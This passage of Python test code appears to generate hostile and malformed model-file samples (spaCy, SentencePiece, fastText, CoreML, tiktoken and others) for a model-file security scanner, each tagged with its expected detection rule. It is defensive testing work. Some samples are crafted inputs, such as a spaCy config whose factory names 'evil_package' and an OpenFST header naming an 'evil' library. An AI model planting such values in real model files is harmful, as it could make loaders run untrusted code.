    for kind in (3, 16, 17):
        yield f"matlab {kind}", "m.mat", matlab(kind), "matlab-code"
    yield "matlab class", "m.mat", matlab(99), "matlab-broken"
    yield "matlab cut", "m.mat", matlab(1)[:-1], "matlab-broken"
    within = [struct.pack("<2I", 14, 16) + matlab(16)[136:], struct.pack("<2I", 14, 999), struct.pack("<2I", 99, 0)]
    for (name, rule), inner in zip(
        {"handle in a cell": "matlab-code", "cell beyond": "matlab-broken", "type": "matlab-broken"}.items(),
        within,
        strict=True,
    ):
        whole = struct.pack("<2I", 14, 16 + len(inner)) + matlab(1)[136:] + inner
        yield f"matlab {name}", "m.mat", matlab(1)[:128] + whole, rule
        packed = zlib.compress(whole)
        yield f"matlab {name}, packed", "m.mat", matlab(1)[:128] + struct.pack("<2I", 15, len(packed)) + packed, rule
    words = b.fasttext(["a", "b"])
    yield "fasttext cut", "m.bin", words[:-1], "fasttext-broken"
    yield "fasttext continued", "m.bin", words + b"x", "fasttext-broken"
    yield "word2vec cut", "m.bin", b"2 1\nthe \0\0\x80\x3fof \0\0\x80", "word2vec-broken"
    yield "netcdf cut", "g.nc", b"CDF\x01\0\0\0\0\0\0\0\x0a\0\0\0\x02", "netcdf-broken"
    yield (
        "openfst of a library",
        "g.fst",
        b"\xd6\xfd\xb2\x7e\x04\0\0\0evil\x08\0\0\0standard" + bytes(40),
        "openfst-broken",
    )
    crf = b.crfsuite()
    for name, data in (("cut", crf[:-1]), ("continued", crf + b"x"), ("chunk", crf.replace(b"AFRF", b"EVIL"))):
        yield f"crfsuite {name}", "m.model", data, "crfsuite-broken"
    blobs = b.coreml_weights(b"abc", b"d" * 70)
    for name, data in (
        ("cut", blobs[:-1]),
        ("continued", blobs + bytes(64)),
        ("mark", blobs[:192] + b"evil" + blobs[196:]),
    ):
        yield f"coreml weights {name}", "weight.bin", data, "coreml-broken"
    quantised = b.fasttext(["a"], quantised=True)
    yield "fasttext quantised, cut", "m.bin", quantised[:-1], "fasttext-broken"
    yield "fasttext quantised, continued", "m.bin", quantised + b"x", "fasttext-broken"
    yield (
        "kenlm",
        "m.klm",
        b"mmap lm http://kheafield.com/code format version 5\n\x00" + bytes(30),
        "kenlm-not-understood",
    )
    spacy = b'[nlp]\nlang = "en"\n[components.x]\n@factories = "%s"\n'
    yield "spacy function", "config.cfg", spacy % b"evil_package.make.v1x", "spacy-function"
    leaf = 0x80000000
    for name, blob in (("beyond", b.trie(5 << 10, leaf)), ("text beyond", b.trie(1 << 10, leaf | 9)), ("no texts", struct.pack("<I", 8) + bytes(8)),
                       ("length", struct.pack("<I", 99) + bytes(9)), ("unended", b.trie(1 << 10, leaf, texts=b"a"))):  # fmt: skip
        yield (
            f"charsmap {name}",
            "tokenizer.model",
            b.sentencepiece("<unk>", "a", charsmap=blob),
            "sentencepiece-charsmap",
        )
    yield "piece twice", "spiece.model", b.sentencepiece("<unk>", "a", "a"), "sentencepiece-duplicate"
    yield "pieces cut", "spiece.model", b.sentencepiece("<unk>", "a")[:-2], "sentencepiece-broken"
    yield "stray field", "spiece.model", b.sentencepiece("<unk>", "a", extra=b.message(9, b"x")), "sentencepiece-broken"
    ranks = b"IQ== 0\nIg== 1\n"
    for name, more in (
        ("text", b"not base64 !\n"),
        ("twice", b"IQ== 5\n"),
        ("rank twice", b"Iw== 1\n"),
        ("no rank", b"Iw==\n"),
    ):
        yield f"ranks {name}", "x.tiktoken", ranks + more, "tiktoken-broken"
    yield "merges shape", "merges.txt", b"#version: 0.2\na b\none two three four\n", "vocabulary-merges"
    yield "vocabulary of bytes", "x.vocab", b"a\t1\n" + b"b\n" * 5000 + b"\x00\x01\n", "vocabulary-not-text"


def hostile() -> list[Case]:
    """All of them."""
    families = (_yaml, _executables, _boosters, _skops, _xml, _coreml, _r_objects, _paddle_and_others, _devices_and_java,
                _stores_and_vocabularies)  # fmt: skip
    return [copy.deepcopy(case) for family in families for case in family()]
